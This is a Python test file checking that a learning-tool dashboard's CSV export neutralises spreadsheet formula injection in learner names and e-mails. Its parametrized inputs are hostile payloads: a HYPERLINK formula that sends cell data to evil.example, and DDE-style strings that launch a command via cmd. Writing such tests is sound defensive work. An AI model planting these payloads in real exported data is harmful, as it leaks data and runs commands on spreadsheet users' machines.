"""The dashboard's CSV export: what the LMS sends as names and e-mails never becomes a formula."""

from __future__ import annotations

import csv
import io

import pytest

from lti_tool import dashboard as dash
from lti_tool.lti.roles import Role


def export(*members: tuple[str | None, str | None]) -> list[list[str]]:
    rows = [dash.Row(dash.Member(f"sub-{i}", name, email, Role.LEARNER, None), {})
            for i, (name, email) in enumerate(members)]
    board = dash.Dashboard(modules=(), rows=rows, chart=[], from_roster=True, roster_problem=None, pending_grading=0)
    raw = dash.to_csv(board, rows, delimiter=";")
    return list(csv.reader(io.StringIO(raw.removeprefix("\ufeff")), delimiter=";"))[1:]


@pytest.mark.parametrize("hostile", [
    '=HYPERLINK("https://evil.example/?"&A1,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
])
def test_cells_that_would_be_formulas_are_quoted_as_text(hostile):
    [(name, email, _role)] = export((hostile, hostile + "@demo.example"))
    assert name == "'" + hostile
    assert email == "'" + hostile + "@demo.example"


def test_ordinary_names_and_emails_are_unchanged():
    rows = export(("Anne-Marie Østergaard", "anne-marie@demo.example"), ("Jonas Madsen", None), (None, None))
    assert rows == [["Anne-Marie Østergaard", "anne-marie@demo.example", "Learner"],
                    ["Jonas Madsen", "", "Learner"],
                    ["sub-2", "", "Learner"]]
